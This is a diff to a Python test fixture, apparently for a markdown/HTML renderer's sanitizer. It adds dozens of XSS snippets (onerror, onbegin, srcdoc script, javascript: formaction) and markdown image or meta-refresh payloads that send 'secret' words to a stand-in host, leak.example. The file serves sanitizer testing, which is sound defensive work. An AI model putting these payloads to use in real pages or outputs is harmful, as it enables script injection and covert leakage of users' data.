@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+from collections.abc import Sequence
+
 FETCH = "/files/fetched.png"
 RUN = "ran()"
 IMG = f"<img src={FETCH} onerror={RUN}>"
+LEAK = "https://leak.example/?words=secret"
+"""An address of somebody else, with what was said in it."""
 
 SNIPPETS = (
     # raw HTML
@@ -42,6 +46,30 @@ SNIPPETS = (
     f"<pre><code>\n\n{IMG}\n</code></pre>",
     f"<{IMG}>",
     f"<button data-commandlinker-command='x' onclick={RUN}>x</button>",
+    f"<form action={LEAK}><button formaction=javascript:{RUN}>x</button><input type=image src={LEAK}></form>",
+    f"<meta http-equiv=refresh content='0; url={LEAK}'>",
+    f"<picture><source srcset={LEAK}><img src=x srcset='{LEAK} 2x'></picture>",
+    f"<svg><use href={LEAK}#x /><animate onbegin={RUN} attributeName=x dur=1s /></svg>",
+    f"<table background={LEAK}><tr><td style='background: url({LEAK})'>x</td></tr></table>",
+    f"<audio src={LEAK} autoplay onerror={RUN}></audio>",
+    f"<embed src={LEAK}>",
+    f"<img/src={LEAK}/onerror={RUN}>",
+    f"<a href={LEAK} ping={LEAK} onpointerover={RUN}>x</a>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<noscript><p title='</noscript><img src={LEAK} onerror={RUN}>'>",
+    f"<img src='data:image/svg+xml,<svg onload={RUN}>' onload={RUN}>",
+    # data that would leave in the address of an image
+    f"![x]({LEAK})",
+    f"![x](<{LEAK}&more words> 'title')",
+    "![x](//leak.example/?words=secret)",
+    "![x](\\\\leak.example/?words=secret)",
+    "![x](https:leak.example/?words=secret)",
+    f"![ ][r]\n\nSee below.\n\n[r]: {LEAK} 'x'",
+    f"[![see the source]({LEAK})]({LEAK})",
+    f"![![x]({LEAK})]({LEAK})",
+    f"**![x](\n{LEAK}\n)**",
+    f"Source:![x]({LEAK}){{width=1 height=1}}",
+    f"![x](data:image/svg+xml;base64,PHN2Zy8+)![x]({LEAK})",
     # images
     f"![x]({FETCH})",
     f"![x](<{FETCH}> 'title')",
@@ -132,6 +160,15 @@ SNIPPETS = (
     f"```html\n{IMG}",
     f"> ```html\n> {IMG}",
 )
+
+
+def marked(snippets: Sequence[str]) -> list[str]:
+    """Snippets that call and fetch by their number."""
+    found = []
+    for n, snippet in enumerate(snippets):
+        called = snippet.replace(RUN, f"ran({n})")
+        found.append(called.replace("fetched.png", f"fetched-{n}.png").replace("/?words", f"/fetched-{n}?words"))
+    return found
 
 
 def nested(prefix: str, text: str, first: str | None = None) -> str:
